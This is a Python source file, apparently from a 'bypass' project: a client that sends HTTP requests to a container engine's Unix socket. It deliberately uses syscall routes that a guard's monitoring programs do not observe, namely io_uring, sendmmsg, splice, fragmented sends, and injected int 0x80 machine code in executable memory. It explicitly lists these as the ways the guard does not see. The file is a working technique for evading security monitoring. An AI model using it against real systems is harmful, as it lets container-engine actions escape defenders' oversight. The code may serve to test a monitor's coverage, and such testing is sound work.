# SPDX-License-Identifier: MIT
"""A client of a container engine's that is not Docker's: it writes its request as it is told to.

Run as a program: ``engine_client.py SOCKET HOW PATH BODY``; prints the answer's body.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
import socket
import sys
from collections.abc import Callable
from pathlib import Path

SEEN = ("write", "writev", "send", "sendmsg")
"""Ways that the guard's programs see."""

_MAP_32BIT = 0x40
_libc = ctypes.CDLL(None)
_libc.mmap.restype = ctypes.c_void_p


def _in_pieces(engine: socket.socket, text: bytes) -> int:
    return engine.send(text[:3]) + engine.send(text[3:])


def _by_io_uring(engine: socket.socket, text: bytes) -> int:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from bypass.senders.rings import _SEND, Ring

    return Ring().do(_SEND, engine.fileno(), ctypes.addressof(_kept(text)), len(text))


def _by_int_80(engine: socket.socket, text: bytes) -> int:
    """write(2) as 32-bit programs call it."""
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _MAP_32BIT
    rights = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    where = _libc.mmap(None, mmap.PAGESIZE, rights, flags, -1, 0)
    # push rbx; mov eax, 4; mov ebx, edi; mov ecx, esi; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 b804000000 89fb 89f1 cd80 5b c3")
    ctypes.memmove(where, code, len(code))
    ctypes.memmove(where + 64, text, len(text))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(where)
    return int(call(engine.fileno(), where + 64, len(text)))


def _by_sendmmsg(engine: socket.socket, text: bytes) -> int:
    part = (ctypes.c_size_t * 2)(ctypes.addressof(_kept(text)), len(text))
    # struct mmsghdr: no name, the parts, how many, no control data, no flags; what was sent
    several = (ctypes.c_size_t * 8)(0, 0, ctypes.addressof(part), 1, 0, 0, 0, 0)
    return int(several[7]) if _libc.sendmmsg(engine.fileno(), several, 1, 0) == 1 else -1


def _by_splice(engine: socket.socket, text: bytes) -> int:
    outlet, inlet = os.pipe()
    os.write(inlet, text)
    return int(_libc.splice(outlet, None, engine.fileno(), None, len(text), 0))


_buffers = []


def _kept(text: bytes) -> ctypes.Array[ctypes.c_char]:
    _buffers.append(ctypes.create_string_buffer(text))
    return _buffers[-1]


_WAYS: dict[str, Callable[[socket.socket, bytes], int]] = {
    "write": lambda engine, text: os.write(engine.fileno(), text),
    "writev": lambda engine, text: os.writev(engine.fileno(), [text]),
    "send": lambda engine, text: engine.send(text),
    "sendmsg": lambda engine, text: engine.sendmsg([text]),
    "pieces": _in_pieces,
    "io_uring": _by_io_uring,
    "sendmmsg": _by_sendmmsg,
    "splice": _by_splice,
}
if platform.machine() == "x86_64":
    _WAYS["int 0x80"] = _by_int_80
HIDDEN = tuple(way for way in _WAYS if way not in SEEN)
"""Ways that they do not see."""


def main(place: str, how: str, path: str, body: str) -> None:
    """Ask."""
    head = f"POST {path} HTTP/1.0\r\nContent-Type: application/json\r\n"
    text = f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode()
    with socket.socket(socket.AF_UNIX) as engine:
        engine.connect(place)
        assert _WAYS[how](engine, text) == len(text), how
        answer = engine.makefile("rb").read()
    assert answer.split()[1][:1] == b"2", answer
    print(answer.partition(b"\r\n\r\n")[2].decode())


if __name__ == "__main__":
    main(*sys.argv[1:])
